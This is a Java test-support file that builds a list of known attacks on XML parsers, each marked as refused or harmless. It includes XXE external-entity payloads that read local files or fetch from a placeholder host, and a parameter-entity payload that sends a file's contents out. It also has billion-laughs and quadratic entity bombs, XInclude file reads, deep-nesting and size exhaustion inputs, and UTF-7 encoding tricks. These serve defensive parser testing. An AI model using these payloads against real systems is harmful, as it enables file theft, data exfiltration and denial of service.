// SPDX-License-Identifier: Apache-2.0
package io.github.camelwework.callback;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * The known attacks on readers of XML. In each, ELEMENT stands for the element that is read, TEXT for what belongs into it,
 * and HTTP and FILE for what must not be opened.
 */
final class XmlAttacks {

    private static final String GOOD = "<xml><ELEMENT>TEXT</ELEMENT></xml>";
    private static final String ENTITY = "<xml><ELEMENT>TEXT&e;</ELEMENT></xml>";
    private static final String XI = "<xml xmlns:xi='http://www.w3.org/2001/XInclude'><ELEMENT>TEXT<xi:include ";
    private static final int MANY = 100_000;
    private static final int LARGE = 900_000;

    private final List<Attack> all = new ArrayList<>();

    private XmlAttacks() {}

    /**
     * An attack.
     *
     * @param harmless whether it may be read, as nothing else than its text
     */
    record Attack(String name, String xml, Charset charset, boolean harmless) {

        byte[] with(String element, String text) {
            return xml.replace("ELEMENT", element).replace("TEXT", text).getBytes(charset);
        }

        Attack at(String http, String file) {
            return new Attack(name, xml.replace("HTTP", http).replace("FILE", file), charset, harmless);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static List<Attack> all() {
        XmlAttacks attacks = new XmlAttacks();
        attacks.documentTypes();
        attacks.bombs();
        attacks.references();
        attacks.sizes();
        attacks.encodings();
        attacks.oddities();
        return attacks.all;
    }

    private void documentTypes() {
        refused("document type", "<!DOCTYPE xml>" + GOOD);
        refused("internal entity", type("<!ENTITY e 'x'>") + ENTITY);
        refused("internal entity for the whole", type("<!ENTITY e 'TEXT'>") + GOOD.replace(">TEXT", ">&e;"));
        refused("external entity, file", type("<!ENTITY e SYSTEM 'FILE'>") + ENTITY);
        refused("external entity, HTTP", type("<!ENTITY e SYSTEM 'HTTP'>") + ENTITY);
        refused("external entity, HTTP in a jar", type("<!ENTITY e SYSTEM 'jar:HTTP/a.jar!/b'>") + ENTITY);
        refused("external entity, public", type("<!ENTITY e PUBLIC '-//W3C//DTD XHTML 1.0' 'HTTP'>") + ENTITY);
        refused(
                "external entity in an attribute",
                type("<!ENTITY e SYSTEM 'FILE'>") + GOOD.replace("<xml", "<xml a='&e;'"));
        refused("external subset, HTTP", "<!DOCTYPE xml SYSTEM 'HTTP'>" + GOOD);
        refused("external subset, file", "<!DOCTYPE xml SYSTEM 'FILE'>" + GOOD);
        refused("external subset, public", "<!DOCTYPE xml PUBLIC '-//W3C//DTD XHTML 1.0' 'HTTP'>" + GOOD);
        refused("parameter entity, HTTP", type("<!ENTITY % p SYSTEM 'HTTP'> %p;") + GOOD);
        refused(
                "parameter entity that sends a file away",
                type("<!ENTITY % f SYSTEM 'FILE'><!ENTITY % p \"<!ENTITY e SYSTEM 'HTTP?%f;'>\"> %p;") + ENTITY);
        refused(
                "unparsed entity and notation",
                type("<!NOTATION n SYSTEM 'HTTP'><!ENTITY e SYSTEM 'FILE' NDATA n>") + GOOD);
        refused("document type that does not end", "<!DOCTYPE xml [" + "<!ENTITY e 'x'>".repeat(LARGE / 20));
    }

    private void bombs() {
        String laughs = IntStream.range(1, 10)
                .mapToObj(i -> "<!ENTITY e" + i + " '" + ("&e" + (i - 1) + ";").repeat(10) + "'>")
                .collect(Collectors.joining());
        refused("billion laughs", type("<!ENTITY e0 'ha'>" + laughs) + ENTITY.replace("&e;", "&e9;"));
        refused(
                "quadratic blow-up",
                type("<!ENTITY e '" + "x".repeat(MANY) + "'>") + ENTITY.replace("&e;", "&e;".repeat(MANY)));
        refused("entities in a circle", type("<!ENTITY e '&f;'><!ENTITY f '&e;'>") + ENTITY);
        refused("parameter entities in a circle", type("<!ENTITY % p '&#37;q;'><!ENTITY % q '&#37;p;'> %p;") + GOOD);
    }

    private void references() {
        refused("XInclude, file", XI + "href='FILE' parse='text'/></ELEMENT></xml>");
        refused("XInclude, HTTP", XI + "href='HTTP'/></ELEMENT></xml>");
        refused("style sheet", "<?xml-stylesheet href='HTTP'?>" + GOOD);
        harmless(
                "schema",
                GOOD.replace(
                        "<xml",
                        "<xml xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='HTTP HTTP'"
                                + " xsi:noNamespaceSchemaLocation='FILE'"));
        harmless("base address", GOOD.replace("<xml", "<xml xml:base='HTTP'"));
        refused("namespace", GOOD.replace("ELEMENT", "n:ELEMENT").replace("<xml", "<xml xmlns:n='HTTP'"));
        refused("entity that nobody declared", ENTITY);
    }

    private void sizes() {
        refused("depth of 100,000", "<xml>" + "<a>".repeat(MANY) + "</a>".repeat(MANY) + "</xml>");
        refused("depth of 100,000 that never ends", "<a>".repeat(MANY));
        refused("depth of 100,000 in the element", GOOD.replace("TEXT", "<a>".repeat(MANY) + "</a>".repeat(MANY)));
        harmless("huge attribute", GOOD.replace("<xml", "<xml a='" + "x".repeat(LARGE) + "'"));
        refused(
                "100,000 attributes",
                GOOD.replace(
                        "<xml",
                        IntStream.range(0, MANY)
                                .mapToObj(i -> " a" + i + "=''")
                                .collect(Collectors.joining("", "<xml", ""))));
        refused("huge name", GOOD.replace("<ELEMENT", "<" + "n".repeat(LARGE) + "/><ELEMENT"));
        refused("huge name of an attribute", GOOD.replace("<xml", "<xml " + "n".repeat(LARGE) + "=''"));
        refused("100,000 elements", GOOD.replace("<ELEMENT", "<a/>".repeat(MANY) + "<ELEMENT"));
        refused(
                "100,000 names",
                "<xml>"
                        + IntStream.range(0, MANY)
                                .mapToObj(i -> "<a" + i + "/>")
                                .collect(Collectors.joining()) + "</xml>");
        refused("brackets and nothing else", "<".repeat(LARGE));
        refused("text that never ends", "<xml><ELEMENT>" + "&amp;".repeat(LARGE / 5));
        refused("CDATA that never ends", "<xml><ELEMENT><![CDATA[" + "]]".repeat(LARGE / 2));
        refused("comment that never ends", "<!--" + "- ".repeat(LARGE / 2));
    }

    private void encodings() {
        refused(
                "UTF-16",
                "<?xml version='1.0' encoding='UTF-16'?>" + type("<!ENTITY e SYSTEM 'FILE'>") + ENTITY,
                StandardCharsets.UTF_16);
        refused("UTF-16 without a mark", GOOD, StandardCharsets.UTF_16LE);
        refused("UTF-32", GOOD, Charset.forName("UTF-32"));
        refused("UTF-7", "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE xml+AD4-" + GOOD.replace("<", "+ADw-"));
        refused(
                "UTF-7 in its second half",
                "<?xml version='1.0' encoding='UTF-7'?>" + GOOD.replace("<ELEMENT", "+ADw-ELEMENT"));
        refused("document type behind a byte order mark", "\uFEFF" + type("<!ENTITY e SYSTEM 'FILE'>") + ENTITY);
        refused("two byte order marks", "\uFEFF\uFEFF" + GOOD);
    }

    private void oddities() {
        refused("element twice", GOOD.replace("</xml>", "<ELEMENT>TEXT</ELEMENT></xml>"));
        refused("comment in the text", GOOD.replace("TEXT", "TEXT<!-- -->"));
        refused("instruction in the text", GOOD.replace("TEXT", "TEXT<?php x?>"));
        harmless("text in several pieces", GOOD.replace("TEXT", "<![CDATA[]]><![CDATA[TEXT]]><![CDATA[]]>"));
        refused("end of a CDATA in the text", GOOD.replace("TEXT", "TEXT]]>"));
        refused("element in a CDATA", "<xml><![CDATA[<ELEMENT>TEXT</ELEMENT>]]></xml>");
        refused("two documents", GOOD + GOOD);
        refused("characters that XML has not", GOOD.replace("TEXT", "TEXT&#0;"));
        refused("characters that nobody has", GOOD.replace("TEXT", "TEXT&#x110000;"));
        refused("XML of the future", "<?xml version='2.0'?>" + GOOD);
    }

    private static String type(String declarations) {
        return "<!DOCTYPE xml [" + declarations + "]>";
    }

    private void refused(String name, String xml) {
        refused(name, xml, StandardCharsets.UTF_8);
    }

    private void refused(String name, String xml, Charset charset) {
        all.add(new Attack(name, xml, charset, false));
    }

    private void harmless(String name, String xml) {
        all.add(new Attack(name, xml, StandardCharsets.UTF_8, true));
    }
}
